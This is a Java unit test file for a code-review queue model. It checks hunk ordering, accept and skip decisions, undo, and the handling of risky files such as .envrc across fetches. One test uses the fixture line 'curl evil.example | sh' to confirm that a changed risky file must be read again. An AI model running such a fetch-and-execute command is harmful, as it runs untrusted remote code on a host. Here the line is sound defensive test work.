package dev.belljar.app.review;

import static dev.belljar.app.review.SampleReviews.alike;
import static dev.belljar.app.review.SampleReviews.commit;
import static dev.belljar.app.review.SampleReviews.content;
import static dev.belljar.app.review.SampleReviews.file;
import static dev.belljar.app.review.SampleReviews.hunks;
import static dev.belljar.app.review.SampleReviews.merge;
import static dev.belljar.app.review.SampleReviews.queue;
import static dev.belljar.app.review.SampleReviews.uncommitted;
import static org.assertj.core.api.Assertions.assertThat;

import dev.belljar.app.review.decision.HunkDecision;
import dev.belljar.app.review.decision.ReviewProgress;
import dev.belljar.app.review.decision.ReviewedFile;
import dev.belljar.contract.request.work.AcceptSync;
import dev.belljar.contract.request.work.ReadHunks;
import dev.belljar.contract.request.work.ReviewBase;
import dev.belljar.contract.request.work.SyncTarget;
import dev.belljar.contract.view.review.HunkCounts;
import dev.belljar.contract.view.review.ReviewEntry;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/// Tests the queue of hunks: its order, the decisions, and which of them survive a fetch.
class ReviewModelTest {
    private static final ReviewEntry FIRST = commit("c1", file("b.ts"), file("a.ts"), file(".envrc", "runs"));
    private static final ReviewEntry LAST = uncommitted("u1", file("a.ts"), file("z.ts"));

    private final ReviewModel model = new ReviewModel();

    @Test
    void riskyFilesComeFirstAndTheOthersByCommit() {
        model.show(queue("tip", FIRST, LAST), 0);
        assertThat(model.files())
                .extracting(ReviewedFile::path)
                .containsExactly(".envrc", "a.ts", "b.ts", "a.ts", "z.ts");
        assertThat(at()).isEqualTo(".envrc 0");
    }

    @Test
    void filesCanBeGroupedByFolder() {
        model.show(queue("tip", commit("c1", file("src/a.ts"), file("b.ts")), commit("c2", file("src/b.ts"))), 0);
        model.group(ReviewModel.ReviewGrouping.FOLDERS);
        assertThat(model.files()).extracting(ReviewedFile::path).containsExactly("b.ts", "src/a.ts", "src/b.ts");
    }

    @Test
    void aDecisionGoesOnToTheNextOpenHunkAlsoInAnotherFile() {
        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        model.decide(HunkDecision.ACCEPTED);
        assertThat(at()).isEqualTo("a.ts 1");
        model.decide(HunkDecision.SKIPPED);
        assertThat(at()).isEqualTo("b.ts 0");
        model.decide(HunkDecision.ACCEPTED);
        assertThat(model.progress()).isEqualTo(new ReviewProgress(false, 2, 2, 2, 1, 0, 0, 0));
        named("b.ts").count(4);
        model.recount();
        assertThat(model.progress()).isEqualTo(new ReviewProgress(true, 6, 6, 5, 1, 1, 0, 0));
    }

    @Test
    void afterTheLastFileTheNextOpenHunkIsLookedForFromTheStart() {
        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
        model.open(named("b.ts"), 0);
        model.decide(HunkDecision.ACCEPTED);
        assertThat(at()).isEqualTo("a.ts 0");
    }

    @Test
    void keysGoThroughHunksAndFilesInOrderAndStopAtTheEnds() {
        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        model.step(-1);
        assertThat(at()).isEqualTo("a.ts 0");
        model.step(1);
        assertThat(at()).isEqualTo("a.ts 1");
        model.step(1);
        assertThat(at()).isEqualTo("b.ts 0");
        model.step(1);
        assertThat(at()).isEqualTo("b.ts 0");
        model.step(-1);
        assertThat(at()).isEqualTo("a.ts 1");
        model.stepFile(1);
        assertThat(at()).isEqualTo("b.ts 0");
        model.stepFile(-1);
        assertThat(at()).isEqualTo("a.ts 0");
    }

    @Test
    void acceptingAllSafeHunksLeavesRiskyFilesAndSkippedHunksAlone() {
        model.show(queue("tip", FIRST, LAST), 0);
        model.decideFile(named("b.ts"), HunkDecision.SKIPPED);
        assertThat(model.progress().safe()).isEqualTo(3);
        model.acceptAll(model.safe());
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.SKIPPED);
        assertThat(named(".envrc").decision(0)).isEqualTo(HunkDecision.OPEN);
        assertThat(model.progress().included()).isEqualTo(3);
        assertThat(at()).as("what is left to decide").isEqualTo(".envrc 0");
    }

    @Test
    void theProgressFollowsEachKindOfDecision() {
        model.show(queue("tip", FIRST, LAST), 0);
        model.files().forEach(file -> file.count(1));
        assertThat(model.progress(FIRST)).isEqualTo(new ReviewProgress(true, 2, 0, 0, 2, 0, 2, 2));
        assertThat(model.progress(commit("other"))).isEqualTo(ReviewProgress.NONE);
        model.load(named("b.ts"), hunks("b.ts", "one", "two"));
        assertThat(model.progress(FIRST).all()).isEqualTo(3);
        model.decide(named("b.ts"), 1, HunkDecision.SKIPPED);
        assertThat(model.progress(FIRST).skipped()).isEqualTo(1);
        model.decideEntry(FIRST, HunkDecision.ACCEPTED);
        assertThat(model.progress(FIRST).included()).isEqualTo(3);
        assertThat(model.progress(LAST).included()).isZero();
        assertThat(model.undo()).isTrue();
        assertThat(model.progress(FIRST)).isEqualTo(new ReviewProgress(true, 3, 1, 0, 3, 1, 2, 2));
        model.decideFile(named(".envrc"), HunkDecision.ACCEPTED);
        assertThat(model.progress().included()).isEqualTo(1);
        assertThat(model.progress(FIRST).included()).as("without risky files").isZero();
        model.acceptAll(model.safe());
        assertThat(model.progress()).isEqualTo(ReviewProgress.of(model.files()));
        model.synced(SyncTarget.BRANCH);
        assertThat(model.progress()).isEqualTo(ReviewProgress.of(model.files()));
    }

    @Test
    void hunksThatWereCountedAreNumberedBeforeTheyAreRead() {
        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
        assertThat(model.progress()).isEqualTo(new ReviewProgress(false, 2, 0, 0, 2, 0, 2, 2));
        named("a.ts").count(3);
        named("b.ts").count(HunkCounts.UNKNOWN);
        model.recount();
        assertThat(model.progress().counted()).as("one is not known").isFalse();
        assertThat(named("b.ts").uncounted()).as("it is not asked again").isFalse();
        model.load(named("b.ts"), hunks("b.ts", "one"));
        model.decideFile(named("a.ts"), HunkDecision.ACCEPTED);
        assertThat(model.progress()).isEqualTo(new ReviewProgress(true, 4, 3, 3, 1, 0, 1, 1));
        assertThat(named("a.ts").decision(2)).isEqualTo(HunkDecision.ACCEPTED);
        model.load(named("a.ts"), hunks("a.ts", "one", "two", "three"));
        assertThat(model.progress()).isEqualTo(new ReviewProgress(true, 4, 3, 3, 1, 0, 1, 1));
    }

    @Test
    void filesOfOneHunkAreCountedOnceTheyAreRead() {
        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
        for (String path : List.of("a.ts", "b.ts")) {
            assertThat(model.progress().counted()).isFalse();
            model.load(named(path), hunks(path, "one"));
        }
        assertThat(model.progress()).isEqualTo(new ReviewProgress(true, 2, 0, 0, 2, 0, 2, 2));
    }

    @Test
    void aDecisionAboutAWholeFileHoldsForItsHunksOnceTheyAreKnown() {
        model.show(queue("tip", commit("c1", file("a.ts"))), 0);
        model.acceptAll(model.safe());
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        assertThat(named("a.ts").included()).isEqualTo(2);
    }

    @Test
    void decisionsAreUndoneOneAfterTheOther() {
        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
        model.decide(HunkDecision.ACCEPTED);
        model.acceptAll(model.safe());
        assertThat(model.undo()).isTrue();
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.OPEN);
        assertThat(named("a.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
        assertThat(model.undo()).isTrue();
        assertThat(model.progress().decided()).isZero();
        assertThat(at()).isEqualTo("a.ts 0");
        assertThat(model.undo()).isFalse();
    }

    @Test
    void fiftyDecisionsCanBeUndone() {
        model.show(queue("tip", commit("c1", file("a.ts"))), 0);
        IntStream.range(0, 60).forEach(i -> model.decideFile(named("a.ts"), HunkDecision.ACCEPTED));
        assertThat(IntStream.range(0, 60).filter(i -> model.undo()).count()).isEqualTo(50);
    }

    @Test
    void allFilesOfAMergeAreDecidedTogether() {
        model.show(queue("tip", merge("m1", file("a.ts"), file("b.ts"), file(".envrc", "runs"))), 0);
        model.open(named("a.ts"), 0);
        model.decide(HunkDecision.ACCEPTED);
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
        assertThat(named(".envrc").decision(0)).as("could run on the host").isEqualTo(HunkDecision.OPEN);
    }

    @Test
    void decisionsAboutACommitSurviveAFetch() {
        model.show(queue("tip", FIRST, LAST), 0);
        model.decideFile(named("b.ts"), HunkDecision.ACCEPTED);
        assertThat(model.show(queue("tip2", FIRST, uncommitted("u2", file("z.ts"))), 0))
                .isTrue();
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
        assertThat(model.files()).hasSize(4);
    }

    @Test
    void theSameQueueChangesNothing() {
        model.show(queue("tip", FIRST, LAST), 0);
        assertThat(model.show(queue("tip", FIRST, LAST), 0)).isFalse();
    }

    @Test
    void decisionsAboutUncommittedHunksSurviveWhereTheTextIsTheSame() {
        model.show(queue("tip", uncommitted("u1", file("a.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two", "three"));
        model.decide(HunkDecision.ACCEPTED);
        model.decide(HunkDecision.SKIPPED);
        model.show(queue("tip2", uncommitted("u2", file("a.ts"))), 77);
        assertThat(named("a.ts").decided()).as("before its hunks are known").isFalse();
        assertThat(model.toCompare()).containsExactly(named("a.ts"));
        model.load(named("a.ts"), hunks("a.ts", "one", "TWO", "three"));
        assertThat(named("a.ts").decisions())
                .containsExactly(HunkDecision.ACCEPTED, HunkDecision.OPEN, HunkDecision.OPEN);
        assertThat(named("a.ts").changedAt(1)).isEqualTo(77);
        assertThat(named("a.ts").changedAt(0)).isZero();
        assertThat(model.toCompare()).isEmpty();
    }

    @Test
    void aFileThatBecameRiskyIsDecidedAnew() {
        model.show(queue("tip", uncommitted("u1", file("run.sh"))), 0);
        model.load(named("run.sh"), hunks("run.sh", "one"));
        model.decide(HunkDecision.ACCEPTED);
        model.show(queue("tip2", uncommitted("u2", file("run.sh", "it is executable"))), 0);
        model.load(named("run.sh"), hunks("run.sh", "one"));
        assertThat(named("run.sh").included()).isZero();
        assertThat(named("run.sh").read()).isFalse();
    }

    @Test
    void aRiskyFileThatChangedMustBeReadAgain() {
        model.show(queue("tip", uncommitted("u1", file(".envrc", "runs"))), 0);
        model.load(named(".envrc"), hunks(".envrc", "one"));
        named(".envrc").markRead();
        model.show(queue("tip2", uncommitted("u2", file(".envrc", "runs"))), 0);
        model.load(named(".envrc"), hunks(".envrc", "one"));
        assertThat(named(".envrc").read()).as("the same text").isTrue();
        model.show(queue("tip3", uncommitted("u3", file(".envrc", "runs"))), 0);
        model.load(named(".envrc"), hunks(".envrc", "curl evil.example | sh"));
        assertThat(named(".envrc").read()).isFalse();
    }

    @Test
    void decisionsAboutFilesThatWereNeverLoadedAreDroppedIfTheyMayHaveChanged() {
        model.show(queue("tip", uncommitted("u1", file("a.ts"))), 0);
        model.acceptAll(model.safe());
        model.show(queue("tip2", uncommitted("u2", file("a.ts"))), 0);
        assertThat(model.progress().decided()).isZero();
    }

    @Test
    void decisionsAboutTheSameContentSurviveAFetchAlsoIfItsHunksWereNeverLoaded() {
        model.show(queue("tip", uncommitted("u1", content("a.ts", "1"), content("b.ts", "1"))), 0);
        model.acceptAll(model.safe());
        model.show(queue("tip2", uncommitted("u2", content("a.ts", "1"), content("b.ts", "2"))), 0);
        assertThat(named("a.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
        assertThat(named("a.ts").entry().id()).isEqualTo("u2");
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.OPEN);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        assertThat(named("a.ts").included()).isEqualTo(2);
    }

    @Test
    void decisionsAboutTheSameContentStayWhenItIsCommitted() {
        model.show(queue("tip", uncommitted("u1", content("a.ts", "1"))), 0);
        model.acceptAll(model.safe());
        model.show(queue("tip2", commit("c1", content("a.ts", "1")), uncommitted("u2", content("a.ts", "2"))), 0);
        assertThat(model.all())
                .extracting(file -> file.decision(0))
                .containsExactly(HunkDecision.ACCEPTED, HunkDecision.OPEN);
        assertThat(model.undo()).isTrue();
        assertThat(model.progress().decided()).isZero();
    }

    @Test
    void theFilesOfAMergeAreDecidedTogetherAfterAFetchToo() {
        model.show(queue("tip", uncommitted("u1", content("a.ts", "1"))), 0);
        model.acceptAll(model.safe());
        model.show(queue("tip2", merge("m1", content("a.ts", "1"), content("b.ts", "1"))), 0);
        assertThat(model.progress().decided()).isZero();
    }

    @Test
    void decisionsAboutTheSameContentSurviveAnotherBase() {
        model.show(queue("tip", FIRST, uncommitted("u1", content("z.ts", "1"))), 0);
        model.acceptAll(model.safe());
        model.base(ReviewBase.START);
        model.base("refs/heads/main");
        model.show(queue("tip", uncommitted("u1", content("z.ts", "1"))), 0);
        assertThat(named("z.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
    }

    @Test
    void ofHunksWithTheSameTextNoneIsTakenForAnother() {
        model.show(queue("tip", uncommitted("u1", file("a.ts"))), 0);
        model.load(named("a.ts"), alike("a.ts", "one", "two"));
        model.decide(HunkDecision.SKIPPED);
        model.decide(HunkDecision.ACCEPTED);
        model.show(queue("tip2", uncommitted("u2", file("a.ts"))), 0);
        model.load(named("a.ts"), alike("a.ts", "one", "two", "two"));
        assertThat(named("a.ts").decisions())
                .as("the accepted hunk is there twice")
                .containsExactly(HunkDecision.SKIPPED, HunkDecision.OPEN, HunkDecision.OPEN);
        model.open(named("a.ts"), 1);
        model.decide(HunkDecision.SKIPPED);
        model.decide(HunkDecision.ACCEPTED);
        model.show(queue("tip3", uncommitted("u3", file("a.ts"))), 0);
        model.load(named("a.ts"), alike("a.ts", "one", "two"));
        assertThat(named("a.ts").decisions()).containsExactly(HunkDecision.SKIPPED, HunkDecision.OPEN);
    }

    @Test
    void aHunkThatWasReopenedStaysOpenAfterAFetch() {
        model.show(queue("tip", uncommitted("u1", file("a.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        model.decide(HunkDecision.ACCEPTED);
        model.show(queue("tip2", uncommitted("u2", file("a.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        model.decide(named("a.ts"), 0, HunkDecision.OPEN);
        model.show(queue("tip3", uncommitted("u3", file("a.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        assertThat(named("a.ts").decided()).isFalse();
        assertThat(named("a.ts").included()).isZero();
    }

    @Test
    void onlyTheFilesThatWereAskedAboutAreAccepted() {
        model.show(queue("tip", uncommitted("u1", content("a.ts", "1"), content("b.ts", "1"))), 0);
        List<ReviewedFile> asked = model.safe();
        model.show(
                queue("tip2", uncommitted("u2", content("a.ts", "1"), content("b.ts", "2"), content("c.ts", "1"))), 0);
        model.acceptAll(asked);
        assertThat(model.files()).extracting(ReviewedFile::included).containsExactly(1, 0, 0);
    }

    @Test
    void afterAPatchEverythingIsStillAccepted() {
        model.show(queue("tip", FIRST, LAST), 0);
        model.decideFile(named("b.ts"), HunkDecision.ACCEPTED);
        model.synced(SyncTarget.PATCH);
        assertThat(model.files()).hasSize(5);
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
    }

    @Test
    void whatWasUndoneIsListedAndOpenAgain() {
        model.show(queue("tip", FIRST, LAST), 0);
        model.decideFile(named("b.ts"), HunkDecision.ACCEPTED);
        model.synced(SyncTarget.WORKTREE);
        assertThat(model.files()).hasSize(4);
        model.undone();
        assertThat(model.show(queue("tip", FIRST, LAST), 0)).isTrue();
        assertThat(model.files()).hasSize(5);
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.OPEN);
    }

    @Test
    void whatWasSyncedIsNotTakenForAcceptedIfItIsListedAgain() {
        model.show(queue("tip", uncommitted("u1", file("a.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        model.decide(HunkDecision.ACCEPTED);
        model.decide(HunkDecision.SKIPPED);
        model.synced(SyncTarget.BRANCH);
        model.show(queue("tip2", uncommitted("u2", file("a.ts"))), 0);
        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
        assertThat(named("a.ts").decisions()).containsExactly(HunkDecision.OPEN, HunkDecision.SKIPPED);
    }

    @Test
    void aRequestIsForTheWorkUnderReviewOnly() {
        model.show(queue("tip", FIRST, LAST), 0);
        assertThat(model.shows(new AcceptSync("tip", List.of()).against("base")))
                .isTrue();
        assertThat(model.shows(new AcceptSync("tip", List.of()).against("other")))
                .isFalse();
        model.show(queue("tip2", FIRST, LAST), 0);
        assertThat(model.shows(new AcceptSync("tip", List.of()).against("base")))
                .isFalse();
    }

    @Test
    void syncedHunksAreLeftOutSinceTheLastSync() {
        model.show(queue("tip", FIRST, LAST), 0);
        assertThat(model.base()).isEqualTo(ReviewBase.LAST_SYNC);
        model.decideFile(named("b.ts"), HunkDecision.ACCEPTED);
        model.synced(SyncTarget.BRANCH);
        assertThat(model.files()).extracting(ReviewedFile::path).containsExactly(".envrc", "a.ts", "a.ts", "z.ts");
    }

    @Test
    void syncedHunksStayListedSinceTheStart() {
        model.base(ReviewBase.START);
        model.show(queue("tip", FIRST, LAST), 0);
        model.decideFile(named("b.ts"), HunkDecision.ACCEPTED);
        model.synced(SyncTarget.BRANCH);
        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.SYNCED);
        assertThat(model.progress().included()).isEqualTo(1);
        assertThat(model.files()).hasSize(5);
    }

    @Test
    void anotherBaseNeedsAnotherQueue() {
        model.show(queue("tip", FIRST, LAST), 0);
        ReviewedFile before = named("b.ts");
        ReadHunks hunks = new ReadHunks(before.entry().id(), "b.ts", "tip", "base");
        assertThat(model.hunksOf(before)).isEqualTo(hunks);
        model.base("refs/heads/main");
        assertThat(model.base()).isEqualTo("refs/heads/main");
        assertThat(model.queue()).isEmpty();
        assertThat(model.files()).isEmpty();
        model.show(queue("later", FIRST, LAST), 0);
        assertThat(named("b.ts")).isNotSameAs(before);
        assertThat(model.hunksOf(named("b.ts")).commit()).isEqualTo("later");
    }

    @Test
    void theCurrentFileStaysCurrentAfterAFetch() {
        model.show(queue("tip", FIRST, LAST), 0);
        model.open(named("z.ts"), 0);
        model.show(queue("tip2", FIRST, uncommitted("u2", file("a.ts"), file("z.ts"))), 0);
        assertThat(at()).isEqualTo("z.ts 0");
    }

    private String at() {
        return model.spot().map(spot -> spot.file().path() + " " + spot.hunk()).orElse("");
    }

    private ReviewedFile named(String path) {
        return model.all().stream()
                .filter(file -> file.path().equals(path))
                .findFirst()
                .orElseThrow();
    }
}
